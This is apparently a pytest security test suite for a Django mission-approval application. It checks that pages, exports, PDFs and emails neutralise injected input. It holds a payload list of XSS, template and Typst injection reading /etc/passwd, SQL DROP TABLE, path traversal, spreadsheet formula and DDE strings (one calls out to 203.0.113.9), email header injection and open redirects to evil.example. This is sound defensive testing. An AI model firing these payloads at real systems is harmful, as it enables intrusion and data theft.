"""What an attacker writes is only ever words: on pages, in files, in letters, in addresses.

Everything that can be written carries payloads (script, template, SQL, path, formula, header,
typesetting). Every door is then opened as several posts, every form on the way is sent with them,
and every question of an address carries them (ASVS 5.0: 1.2, 1.3, 3.2).
"""

import csv
import io
import os
import re
import zipfile
from email import policy as mail_policy
from email.parser import BytesParser
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlencode, urlsplit

import openpyxl
import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from pypdf import PdfReader

from approvals import services as approvals
from missions.models import Cluster, Mission, Organisation, Sector, User
from notices import services as notices
from records import saved_views
from tests.builders import (
    PASSWORD,
    a_mission,
    a_started,
    a_submitted,
    carried_to,
    civil_answers,
    give,
    open_step,
    qip_answers,
    who,
)
from tests.calling import Caller, finish
from tests.doors import LISTS, RECORD, lines, methods_of, served

pytestmark = pytest.mark.django_db

SUM = "68401"  # what the templates below would come to, if anything ran them
PAYLOADS = {
    "script": '"><script>zqrun(1)</script>',
    "picture": "'><img src=x onerror=zqrun(2)>",
    "attribute": '" onmouseover="zqrun(3)" x="',
    "template": "{{73*937}}{% debug %}${73*937}<%= 73*937 %>#{73*937}",
    "typst": '#read("/etc/passwd") #eval("73*937") #(73*937) ] zq',
    "sql": "zq' OR 1=1; DROP TABLE missions_user; --",
    "path": "../../../../../../etc/passwd",
    "link": "javascript:zqrun(4)",
    "formula": '=HYPERLINK("http://203.0.113.9/?"&A1,"zq")',
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "header": "zq\r\nBcc: zq@evil.example\r\nX-Zq: 1\r\n\r\n<b>zq",
    "long": "zq" * 60,
    "odd": "zq\u202e\u0000\ufffe\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
}
STARTS = ("=", "+", "-", "@", "\t", "\r")
LONG = bool(os.environ.get("CIMIC_LONG"))
DESKS = ("chief.cimic", "partner.ngo", "dsrsg", "records.officer", "cos")[: 5 if LONG else 2]
ASKED = [
    "search",
    "sector",
    "kind",
    "status",
    "category",
    "area",
    "bbox",
    "cursor",
    "page_size",
    "columns",
    "sort",
    "view",
    "waiting_on",
    "mine",
    "follow_up",
    "from",
    "to",
    "by",
    "which",
    "show",
    "part",
    "post",
    "lang",
    "language",
    "hxl",
    "headings",
    "next",
    "seat",
    "overdue",
    "needed_before",
    "disaster_event",
    "displacement_site",
    "q",
    "format",
    "zoom",
    "step",
]


class Reading(HTMLParser):
    """What a browser would make of a page: what runs, where it leads, and its forms."""

    def __init__(self) -> None:
        super().__init__()
        self.runs: list[str] = []
        self.forms: list[dict[str, Any]] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = {name: value or "" for name, value in attrs}
        self._script = tag == "script"
        self.runs += [f"{tag} {name}" for name in said if name.startswith("on")]
        for name in ("href", "src", "action", "formaction", "xlink:href", "srcdoc"):
            if said.get(name, "").strip().lower().startswith(("javascript:", "data:text")):
                self.runs.append(f"{tag} {name}={said[name]}")
        if said.get("src") == "x" or tag in {"iframe", "object", "embed", "base"}:
            self.runs.append(f"{tag} {said}")
        if tag == "form":
            self.forms.append({"said": said, "boxes": {}, "texts": []})
        elif self.forms and said.get("name"):
            self._box(tag, said)

    def _box(self, tag: str, said: dict[str, str]) -> None:
        form, name = self.forms[-1], said["name"]
        kind = said.get("type", "text") if tag == "input" else tag
        if kind in {"text", "search", "textarea", "email", "url", "tel"}:
            form["texts"].append(name)
        elif kind in {"hidden", "date", "number", "submit", "button", "datetime-local", "time"}:
            form["boxes"].setdefault(name, said.get("value", ""))
        elif kind in {"radio", "checkbox"}:
            form["boxes"].setdefault(name, said.get("value", "on"))
        elif kind == "select":
            form["boxes"].setdefault(name, "")
            form["select"] = name

    def handle_data(self, data: str) -> None:
        if self._script and "zqrun" in data:
            self.runs.append(f"script {data[:60]}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = False


def check_page(text: str, where: Any) -> Reading:
    """Read a page as a browser does: nothing that was written there may run."""
    page = Reading()
    page.feed(text)
    assert page.runs == [], where
    assert "<script>zqrun" not in text, where
    return page


def check_rows(text: str, where: Any) -> None:
    """No cell of a CSV starts a formula."""
    for line in csv.reader(io.StringIO(text)):
        for cell in line:
            number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
            assert not cell.startswith(STARTS) or number, (where, cell)


def check_workbook(content: bytes, where: Any) -> None:
    """No cell of a workbook is a formula or a link elsewhere."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, cell.value)
                assert cell.hyperlink is None, (where, cell.value)


def check_answer(answer: Any, where: Any) -> Reading | None:
    """Check whatever came back, by its own form; give a page as it was read."""
    body = b"".join(answer) if answer.streaming else answer.content
    finish(answer)
    assert answer.status_code < 500, where
    for name, value in answer.items():
        assert "\n" not in value, (where, name)
        assert "\r" not in value, (where, name)
    assert "X-Zq" not in answer.headers, where
    if answer.get("Location"):
        assert urlsplit(answer["Location"]).netloc in {"", "testserver"}, (
            where,
            answer["Location"],
        )
    kind = answer.get("Content-Type", "").split(";")[0]
    assert answer.get("X-Content-Type-Options") == "nosniff" or not body, where
    if body[:4] == b"PK\x03\x04" and "spreadsheet" in kind:
        check_workbook(body, where)
        return None
    if body[:4] == b"PK\x03\x04":
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            for name in archive.namelist():
                assert not name.startswith("/"), (where, name)
                assert ".." not in name.split("/"), (where, name)
                if name.endswith(".csv"):
                    check_rows(archive.read(name).decode("utf-8-sig"), (where, name))
                if name.endswith(".pdf"):
                    check_words(text_of_pdf(archive.read(name)), (where, name))
        return None
    text = text_of_pdf(body) if body[:4] == b"%PDF" else body.decode("utf-8", "replace")
    check_words(text, where)
    if kind == "text/csv":
        check_rows(text.removeprefix("\ufeff"), where)
    return check_page(text, where) if kind == "text/html" else None


def text_of_pdf(body: bytes) -> str:
    return "".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)


def check_words(text: str, where: Any) -> None:
    """Nothing was run, read or told that is nobody's to know."""
    assert SUM not in text, where
    assert "root:x:0" not in text, where
    assert "Traceback (most recent" not in text, where
    assert "psycopg2" not in text, where


def desk(username: str) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(who(username))
    return client


def worded(answers: dict[str, Any], turn: int = 0) -> dict[str, Any]:
    """Answers whose texts are payloads, each field another one."""
    words = list(PAYLOADS.values())
    texts = ("title", "description", "place", "contact", "do_no_harm", "gender_protection")
    texts += ("on_behalf_of", "coordination_note", "objective", "work_plan", "maintenance_owner")
    texts += ("implementing_partner", "last_resort", "pick_up", "drop_off", "partner_registration")
    return {
        **answers,
        **{
            name: words[(number + turn) % len(words)].replace("\0", "")[:150]
            for number, name in enumerate(texts)
            if name in answers or name in {"contact", "on_behalf_of", "coordination_note"}
        },
    }


@pytest.fixture
def written(settings: Any) -> str:
    """Everything that can be written is a payload; give the record it hangs on."""
    settings.SIGNING_KEY, settings.SIGNING_KEY_FILE = "1f" * 32, ""
    mission = a_mission()
    words = list(PAYLOADS.values())
    Mission.objects.filter(pk=mission.pk).update(name=PAYLOADS["script"])
    Sector.objects.filter(code="east").update(name=PAYLOADS["picture"])
    Cluster.objects.update(name=PAYLOADS["typst"])
    Organisation.objects.filter(acronym="RFC").update(name=PAYLOADS["formula"], acronym="=1+1")
    User.objects.filter(username="partner.ngo").update(
        first_name=PAYLOADS["attribute"], last_name=PAYLOADS["formula"]
    )
    for turn in range(len(words)):
        a_submitted(worded(civil_answers(), turn), by="partner.ngo")
    rfa = a_submitted(worded(qip_answers(), 3), by="partner.ngo")
    for number, text in enumerate(words):
        clean = text.replace("\0", "")
        said = clean.replace("@", "at ")  # a name of nobody is refused
        approvals.say(rfa=rfa, actor=who("partner.ngo"), text=said)
        upload = SimpleUploadedFile(f"{text[:60]}{number}.txt", clean.encode())
        approvals.attach(rfa=rfa, actor=who("partner.ngo"), upload=upload, caption=clean)
    give(open_step(rfa), "return", remarks=PAYLOADS["typst"] + PAYLOADS["script"])
    a_started(worded(civil_answers()))
    asked = carried_to(a_submitted(worded(civil_answers(), 5)), "awaiting_decision")
    chief = Caller("chief.cimic")
    for text in (PAYLOADS["script"], PAYLOADS["formula"], PAYLOADS["template"]):
        chief.tell("complaints/", {"matter": text, "complainant": text}, expect=201)
        saved_views.save_view(actor=who("chief.cimic"), name=text[:60], query="", shared=True)
    approvals.refer(rfa=asked, actor=who("sector.east"), matter=PAYLOADS["script"])
    notices.sweep()
    return rfa.reference


def addresses(reference: str) -> list[str]:
    """Every address that is read: lists, and those of one record."""
    views = dict(served())
    fixed = {
        "<str:reference>": reference,
        "<str:row>": "P41",
        "<slug:role>": "partner",
        "<str:kind>": "civil_assistance",
        "<str:route>": "civil_assistance",
        "<int:number>": "2",
        "<str:act>": "progress",
    }
    found = []
    for pattern in lines(LISTS) + lines(RECORD):
        if "get" not in methods_of(views[pattern]):
            continue
        for word, value in fixed.items():
            pattern = pattern.replace(word, value)
        if "<" not in pattern:
            found.append(f"/{pattern}".replace("//", "/"))
    return found


class Undone(Exception):
    """Ends a probe: whatever it did is undone."""


def test_nothing_that_was_written_runs_anywhere_nor_any_form_filled_with_it(written):
    pages, sent = 0, set()
    for username in DESKS:
        client = desk(username)
        for address in addresses(written):
            page = check_answer(client.get(address), (username, address))
            pages += 1
            for form in page.forms if page else []:
                key = (username in {"chief.cimic", "partner.ngo"}, shape_of(form, address))
                if form["said"].get("method", "get").lower() == "post" and key not in sent:
                    sent.add(key)
                    send(client, form, address, (username, address))
    assert pages > 100
    assert len(sent) > 20


def shape_of(form: dict[str, Any], address: str) -> str:
    where = form["said"].get("action") or address
    return re.sub(r"[0-9a-f-]{36}|[A-Z]+-[A-Z]+-\d+-\d+|\d+", "#", where) + str(form["texts"])


def send(client: Client, form: dict[str, Any], address: str, where: Any) -> None:
    """Send a form with a payload in each of its boxes, follow it, and undo that."""
    target = form["said"].get("action") or address
    if not target.startswith("/") or "logout" in target:
        return
    words = list(PAYLOADS.values())
    for turn in (0, 5, 9):
        texts = {
            name: words[(number + turn) % len(words)] for number, name in enumerate(form["texts"])
        }
        try:
            with transaction.atomic():
                answer = client.post(
                    target, {**form["boxes"], **texts}, HTTP_REFERER="//evil.example"
                )
                landed = answer.get("Location", "")
                check_answer(answer, (*where, "form", target))
                if landed.startswith("/"):
                    check_answer(client.get(landed), (*where, "landed", landed))
                raise Undone
        except Undone:
            continue


def test_no_question_of_an_address_and_no_header_runs_or_fails(written):
    client, calls = desk("chief.cimic"), 0
    for number, address in enumerate(addresses(written)):
        words = list(PAYLOADS.values())
        for turn in range(number, number + (60 if LONG else 6), 3):
            asked = {name: words[(turn + at) % len(words)] for at, name in enumerate(ASKED)}
            few = dict(list(asked.items())[turn % 9 :: 9])
            answer = client.get(
                f"{address}?{urlencode(few if turn % 2 else asked)}",
                HTTP_REFERER="https://evil.example/" + PAYLOADS["script"],
                HTTP_ACCEPT_LANGUAGE=PAYLOADS["sql"],
                HTTP_X_REQUEST_ID=PAYLOADS["script"],
                HTTP_IF_NONE_MATCH=PAYLOADS["template"],
                HTTP_HX_CURRENT_URL=PAYLOADS["link"],
                HTTP_RANGE="bytes=9-1,0-",
            )
            check_answer(answer, (address, asked))
            calls += 1
    assert calls > 150


ELSEWHERE = [
    "//evil.example/",
    "https://evil.example/",
    "/\\evil.example/",
    "javascript:zqrun(5)",
    "/%0d%0aX-Zq: 1",
    "http:///evil.example",
    "\thttps://evil.example",
    "//evil.example\\@testserver/",
]


def test_no_address_leads_out_of_the_house(db):
    a_mission()
    for elsewhere in ELSEWHERE:
        client = desk("chief.cimic")
        login = {"login": "cos", "password": PASSWORD, "next": elsewhere}
        answers = [
            client.post("/language/", {"language": "fr", "next": elsewhere}),
            client.post("/language/", {"language": "en"}, HTTP_REFERER=elsewhere),
            Client().get("/accounts/login/", {"next": elsewhere}),
            Client().post("/accounts/login/", login),
            client.post("/accounts/logout/", {"next": elsewhere}),
        ]
        for answer in answers:
            check_answer(answer, elsewhere)
            assert "evil" not in answer.get("Location", ""), elsewhere


def test_letters_have_the_headers_that_we_gave_them_and_nothing_in_them_runs(written):
    notices.sweep()

    assert mail.outbox
    for letter in mail.outbox:
        told = BytesParser(policy=mail_policy.default).parsebytes(letter.message().as_bytes())
        assert (told["Bcc"], told["X-Zq"]) == (None, None)
        assert len(told["To"].addresses) == 1
        for part in told.walk():
            if part.get_content_type() == "text/html":
                check_page(part.get_content(), letter.subject)
